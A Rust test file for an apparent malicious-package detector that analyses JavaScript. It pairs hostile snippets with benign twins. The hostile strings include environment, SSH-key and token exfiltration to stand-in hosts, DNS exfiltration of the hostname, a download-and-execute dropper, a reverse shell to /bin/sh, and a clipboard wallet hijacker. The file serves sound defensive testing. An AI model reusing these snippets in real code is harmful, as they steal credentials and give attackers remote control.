//! Our own small cases for each JavaScript flow, each with a benign twin.

use super::*;
use crate::facts::parse;

fn kinds(source: &str) -> Vec<SignalKind> {
    let language: tree_sitter::Language = tree_sitter_javascript::LANGUAGE.into();
    let tree = parse(&language, source).expect("parses");
    analyse(&tree, source)
        .signals
        .into_iter()
        .map(|s| s.kind)
        .collect()
}

fn has(source: &str, kind: SignalKind) -> bool {
    kinds(source).contains(&kind)
}

#[test]
fn environment_and_host_identity_sent_to_a_named_host() {
    let env = "const https = require('https');\nconst data = JSON.stringify(process.env);\nconst req = https.request({hostname: 'x.example.invalid', method: 'POST'});\nreq.write(data);\nreq.end();\n";
    assert!(has(env, SignalKind::ExfilFlow));
    let host = "const os = require('os');\nfetch('https://collect.example.invalid/i', {method: 'POST', body: os.hostname() + ':' + os.userInfo().username});\n";
    assert!(has(host, SignalKind::ExfilFlow));
    // A library reporting the host name to an address from its configuration.
    let agent = "const os = require('os');\nmodule.exports = (config) => fetch(config.url, {body: JSON.stringify({host: os.hostname()})});\n";
    assert!(!has(agent, SignalKind::ExfilFlow));
    // An SDK sending its API key to its service (an address from its settings).
    let sdk = "const key = process.env.OPENAI_API_KEY;\nfunction call(base) { return fetch(base + '/v1/models', {headers: {Authorization: 'Bearer ' + key}}); }\n";
    assert!(!has(sdk, SignalKind::ExfilFlow));
}

#[test]
fn credential_files_and_tokens_leaving() {
    let ssh = "const fs=require('fs'),os=require('os'),path=require('path'),https=require('https');\nconst key=fs.readFileSync(path.join(os.homedir(),'.ssh','id_rsa'),'utf8');\nconst req=https.request({host:'45.77.1.2',port:443,method:'POST'});req.write(key);req.end();\n";
    assert!(has(ssh, SignalKind::ExfilFlow));
    let token = "const {execSync} = require('child_process');\nconst tok = process.env.GITHUB_TOKEN;\nexecSync('curl -s -X POST -d \"' + tok + '\" https://webhook.example.invalid/1');\n";
    assert!(has(token, SignalKind::ExfilFlow));
    let config = "const fs = require('fs');\nconst text = fs.readFileSync('package.json', 'utf8');\nfetch('https://registry.example.invalid/x', {method: 'PUT', body: text});\n";
    assert!(!has(config, SignalKind::ExfilFlow));
}

#[test]
fn host_identity_in_a_built_dns_name() {
    let dns = "const dns = require('dns'); const os = require('os');\nconst h = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(h + '.oast.example.invalid', () => {});\n";
    assert!(has(dns, SignalKind::ExfilFlow));
    let local = "const dns = require('dns'); const os = require('os');\ndns.lookup(os.hostname(), (err, address) => console.log(address));\n";
    assert!(!has(local, SignalKind::ExfilFlow));
}

#[test]
fn download_written_outside_the_package_then_started() {
    let dropper = "const https=require('https'),fs=require('fs'),{exec}=require('child_process'),path=require('path'),os=require('os');\nconst f=path.join(os.tmpdir(),'upd');\nhttps.get('https://cdn.example.invalid/bin',r=>{const w=fs.createWriteStream(f);r.pipe(w);w.on('finish',()=>{fs.chmodSync(f,0o755);exec(f);});});\n";
    assert!(has(dropper, SignalKind::DownloadRun));
    // A prebuilt binary saved into the package and checked with `--version`.
    let prebuilt = "const https=require('https'),fs=require('fs'),cp=require('child_process'),path=require('path');\nconst bin=path.join(__dirname,'bin','tool');\nhttps.get('https://registry.example.invalid/tool.tgz',r=>{const w=fs.createWriteStream(bin);r.pipe(w);w.on('finish',()=>cp.execFileSync(bin,['--version']));});\n";
    assert!(!has(prebuilt, SignalKind::DownloadRun));
}

#[test]
fn socket_piped_into_a_shell() {
    let shell = "const net=require('net'),cp=require('child_process');\nconst sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();\nc.connect(4444,'10.0.0.5',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});\n";
    assert!(has(shell, SignalKind::ReverseShell));
    let server = "const net=require('net'),cp=require('child_process');\nconst child=cp.spawn('node',['worker.js']);const c=net.connect(8080,'localhost');\nchild.stdout.pipe(process.stdout);\n";
    assert!(!has(server, SignalKind::ReverseShell));
}

#[test]
fn clipboard_read_next_to_a_wallet_pattern() {
    let clipper = "const cp=require('child_process');\nconst r=/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/;\nsetInterval(()=>{const c=cp.execSync('powershell Get-Clipboard').toString();if(r.test(c))cp.execSync('powershell Set-Clipboard x');},500);\n";
    assert!(has(clipper, SignalKind::Surveillance));
    let tool = "const cp=require('child_process');\nmodule.exports.read=()=>cp.execSync('pbpaste').toString();\n";
    assert!(!has(tool, SignalKind::Surveillance));
    // typescript.js: `xsel` inside `JsxSelfClosingElement`, `bc1` inside a commit hash.
    let compiler = "// blob/ad4ded80e1d58f0bf36ac16bea71bc10d9f\nconst k = {JsxSelfClosingElement: 282};\nconst re = /^[a-z]+$/;\n";
    assert!(!has(compiler, SignalKind::Surveillance));
}

#[test]
fn es_module_imports_resolve() {
    let esm = "import { request } from 'node:https';\nimport os from 'os';\nconst r = request({hostname: 'c.example.invalid', method: 'POST'});\nr.write(JSON.stringify({u: os.userInfo().username}));\n";
    assert!(has(esm, SignalKind::ExfilFlow));
}

fn passive(source: &str) -> Vec<(u32, u32)> {
    let language: tree_sitter::Language = tree_sitter_javascript::LANGUAGE.into();
    let tree = parse(&language, source).expect("parses");
    analyse(&tree, source).passive_lines
}

#[test]
fn functions_called_at_top_level_run_and_exported_ones_wait() {
    // Called at top level, directly, through another function, or handed to a timer.
    let called = "function steal() { send(); }\nfunction send() {}\nconst later = () => {};\nsteal();\nsetTimeout(later, 10);\n";
    assert_eq!(passive(called), Vec::<(u32, u32)>::new());
    // Exported for callers, and a helper nothing calls.
    let library = "module.exports = function run() {\n  exec('x');\n};\nexports.stop = () => {};\nfunction unused() {}\nmodule.exports.helpers = { a() {}, b: function () {} };\n";
    assert_eq!(
        passive(library),
        vec![(1, 3), (4, 4), (5, 5), (6, 6), (6, 6)]
    );
    // A namespace object's methods go by their names: `Common.install()` reaches one.
    let namespace = "var Common = {};\nCommon.install = function () {};\nCommon.help = function () {};\nCommon.install();\n";
    assert_eq!(passive(namespace), vec![(3, 3)]);
    // An IIFE runs; ES module default exports wait.
    let iife = "(function () { exec('x'); })();\nexport default function main() {}\n";
    assert_eq!(passive(iife), vec![(2, 2)]);
}

#[test]
fn hostile_nesting_does_not_overflow_the_stack() {
    let members = format!("const x = a{};\nfetch(x);\n", ".b".repeat(200_000));
    let parentheses = format!(
        "const y = {}f(){};\n",
        "(".repeat(100_000),
        ")".repeat(100_000)
    );
    for source in [members, parentheses] {
        let _ = kinds(&source);
    }
}
